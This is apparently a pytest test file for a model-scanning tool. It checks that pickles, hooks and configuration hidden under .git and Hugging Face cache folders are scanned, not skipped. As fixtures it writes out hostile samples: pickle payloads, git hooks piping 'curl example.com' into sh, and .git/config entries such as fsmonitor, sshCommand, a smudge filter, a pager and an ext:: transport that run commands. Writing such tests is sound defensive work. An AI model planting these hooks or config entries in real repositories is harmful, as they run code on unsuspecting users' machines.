"""Nothing hides where no one looks: what lies in `.git` or `.cache/huggingface` is a record of git's or the client's, or it is judged.

Scanners that skip dot folders let https://nvd.nist.gov/vuln/detail/CVE-2025-10155 and its kind through by a path alone.
"""

from __future__ import annotations

import hashlib
import json
import os
import pickle
import shutil
import subprocess
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from support import Ran

from modelguard import Artifact, SourceContext
from modelguard._formats.sniff import classify
from modelguard._sources.left_out import DOWNLOADS, GIT, LFS_COPIES
from modelguard._sources.local import LocalSource

Run = Callable[..., Ran]

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="needs git, to write a real repository")


def git(folder: Path, *argv: str) -> None:
    alone = {"GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_SYSTEM": os.devnull, "PATH": os.environ["PATH"], "HOME": str(folder)}
    named = ("-c", "user.name=a", "-c", "user.email=a@example.com", "-c", "init.defaultBranch=main")
    subprocess.run(["git", *named, *argv], cwd=folder, env=alone, check=True, capture_output=True)


@pytest.fixture(scope="module")
def clone(tmp_path_factory: pytest.TempPathFactory, tiny_model: Path) -> Path:
    """A clone with loose objects, packs, references, logs, sample hooks, hooks of Git LFS, download records."""
    folder = tmp_path_factory.mktemp("git")
    (folder / "origin").mkdir()
    shutil.copy(tiny_model / "model.safetensors", folder / "origin")
    git(folder / "origin", "init", "-q")
    git(folder / "origin", "add", ".")
    git(folder / "origin", "commit", "-qm", "one")
    git(folder / "origin", "gc", "-q")
    git(folder, "clone", "-q", str(folder / "origin"), "clone")
    made = folder / "clone"
    (made / "config.json").write_text("{}")
    git(made, "add", ".")
    git(made, "commit", "-qm", "two")
    git(made, "stash", "list")
    message = "\\nThis repository is configured for Git LFS but 'git-lfs' was not found on your path.\\n"
    hook = f'#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || {{ echo >&2 "{message}"; exit 2; }}\ngit lfs post-commit "$@"\n'
    (made / ".git" / "hooks").mkdir(exist_ok=True)
    (made / ".git" / "hooks" / "post-commit").write_text(hook)
    content = (made / "model.safetensors").read_bytes()
    digest = hashlib.sha256(content).hexdigest()
    lfs = made / ".git" / "lfs" / "objects" / digest[:2] / digest[2:4] / digest
    lfs.parent.mkdir(parents=True)
    lfs.write_bytes(content)
    records = made / ".cache" / "huggingface"
    (records / "download").mkdir(parents=True)
    (records / ".gitignore").write_text("*")
    (records / "CACHEDIR.TAG").write_text("Signature: 8a477f597d28d172789f06886806bc55\n# This file is a cache directory tag.\n")
    (records / "download" / "config.json.metadata").write_text(f"{'c' * 40}\n{'d' * 40}\n1764400000.123456\n")
    (records / "download" / "config.json.lock").touch()
    return made


def fetch(path: Path) -> Artifact:
    return LocalSource(Path("/nowhere")).fetch(str(path), SourceContext())


def test_a_real_clone_is_its_model_and_what_was_left_out_is_counted(clone: Path) -> None:
    artifact = fetch(clone)
    assert [file.path for file in artifact.files] == ["config.json", "model.safetensors"]
    inside = sum(len(files) for _, _, files in os.walk(clone / ".git"))
    assert [(item.path, item.files, item.reason) for item in artifact.left_out] == [
        (".cache/huggingface", 4, DOWNLOADS), (".git", inside - 1, GIT), (".git/lfs", 1, LFS_COPIES),
    ]  # fmt: skip


def test_the_report_says_it_and_strict_refuses_it(mg: Run, clone: Path, tiny_model: Path, tmp_path: Path) -> None:
    ran = mg("scan", clone, "-q", "-v", "-o", f"json={tmp_path / 'r.json'}")
    assert ran.code == 0
    assert "left out .git (" in ran.out
    left = json.loads((tmp_path / "r.json").read_text())["target"]["left_out"]
    assert [item["path"] for item in left] == [".cache/huggingface", ".git", ".git/lfs"]
    ran = mg("policy", "eval", tmp_path / "r.json", "--policy", "builtin:strict")
    assert ran.code == 3
    assert "sources.left_out: incomplete" in ran.out


CALL = b"cbuiltins\nprint\n(S'x'\ntR."


def _object(content: bytes) -> tuple[str, bytes]:
    name = hashlib.sha1(content).hexdigest()
    return f".git/objects/{name[:2]}/{name[2:]}", zlib.compress(content)


NO_RECORDS: dict[str, tuple[str, bytes]] = {
    "a pickle beside git's files": (".git/pytorch_model.bin", pickle.dumps({"w": [1.0]})),
    "a pickle called like an object": (".git/objects/ab/" + "c" * 38, CALL),
    "a compressed pickle, as joblib reads, called like an object": (".git/objects/ab/" + "c" * 38, zlib.compress(CALL)),
    "a compressed pickle under its own SHA-1": _object(CALL),
    "an object with a tail": (_object(b"blob 1\0x")[0], _object(b"blob 1\0x")[1] + CALL),
    "a pack that is none": (".git/objects/pack/pack-" + "a" * 40 + ".pack", b"PACK\0\0\0\2" + bytes(64)),
    "weights among download records": (".cache/huggingface/x.safetensors", pickle.dumps({"w": 1})),
    "a pickle called a download record": (".cache/huggingface/download/a.metadata", CALL),
    "a lock that is not empty": (".cache/huggingface/download/a.lock", CALL),
    "an index that is none": (".git/index", pickle.dumps([1])),
    "a hook": (".git/hooks/post-checkout", b"#!/bin/sh\ncurl example.com | sh\n"),
    "a hook without a first line": (".git/hooks/pre-commit", b"curl example.com | sh\n"),
    "a hook behind that of Git LFS": (
        ".git/hooks/pre-push",
        b'#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || { echo >&2 "$(id)"; exit 2; }\ngit lfs pre-push "$@"\n',
    ),
    "a message that is a pickle": (".git/COMMIT_EDITMSG", CALL),
    "a message that is a script": (".git/COMMIT_EDITMSG", b"#!/bin/sh\ntrue\n"),
    "a reference that is a pickle": (".git/refs/heads/x", CALL),
    # https://github.com/justinsteven/advisories/blob/main/2022_git_buried_bare_repos_and_fsmonitor_various_abuses.md
    "fsmonitor": (".git/config", b"[core]\n\tfsmonitor = touch pwned\n"),
    "ssh command": (".git/config", b"[core]\n\tbare = false\n\tsshCommand = touch pwned\n"),
    "a filter": (".git/config", b'[filter "x"]\n\tsmudge = touch pwned\n'),
    "a pager": (".git/config", b"[core]\n\tpager = touch pwned\n"),
    "an included file": (".git/config", b"[include]\n\tpath = ../x\n"),
    "a transport that runs": (".git/config", b'[remote "o"]\n\turl = ext::sh -c touch% pwned\n'),
    "a continued line": (".git/config", b"[core]\n\tbare = false\\\n\tfsmonitor = x\n"),
}


@pytest.mark.parametrize("kind", NO_RECORDS)
def test_what_is_no_record_is_listed_and_counts_as_code(tmp_path: Path, kind: str) -> None:
    path, content = NO_RECORDS[kind]
    (tmp_path / path).parent.mkdir(parents=True)
    (tmp_path / path).write_bytes(content)
    artifact = fetch(tmp_path)
    (file,) = artifact.files
    assert (file.path, artifact.left_out) == (path, ())
    assert classify(file).matter != "inert"


def test_what_hides_there_leaves_no_verdict(mg: Run, tiny_model: Path, tmp_path: Path) -> None:
    shutil.copytree(tiny_model, tmp_path / "m")
    hidden = dict(NO_RECORDS[kind] for kind in ("a pickle beside git's files", "a hook", "ssh command"))
    for path, content in hidden.items():
        (tmp_path / "m" / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "m" / path).write_bytes(content)
    ran = mg("scan", tmp_path / "m", "-q", "-p", "no:serialization", "-o", f"json={tmp_path / 'r.json'}")
    assert ran.code == 3
    messages = [item["message"] for item in json.loads((tmp_path / "r.json").read_text())["decision"]["violations"]]
    assert all(any(path in message for message in messages) for path in hidden)


def test_a_link_into_git_is_a_file_like_any_other(clone: Path, tmp_path: Path) -> None:
    copied = shutil.copytree(clone, tmp_path / "m", symlinks=True)
    (copied / "model.bin").symlink_to(".git/HEAD")
    (copied / ".git" / "ORIG_HEAD").unlink(missing_ok=True)
    (copied / ".git" / "ORIG_HEAD").symlink_to("HEAD")
    assert {"model.bin", ".git/ORIG_HEAD"} <= {file.path for file in fetch(copied).files}


def test_an_object_of_lfs_that_is_no_copy_is_listed(clone: Path, tmp_path: Path) -> None:
    copied = shutil.copytree(clone, tmp_path / "m")
    (copied / "model.safetensors").write_bytes(b"other")
    assert [file.path for file in fetch(copied).files if "/lfs/" in file.path]


def test_objects_that_clones_share_by_hard_links_are_git_s_own(clone: Path, tmp_path: Path) -> None:
    git(tmp_path, "clone", "-q", "--local", str(clone), "m")
    assert [file.path for file in fetch(tmp_path / "m").files] == ["config.json", "model.safetensors"]
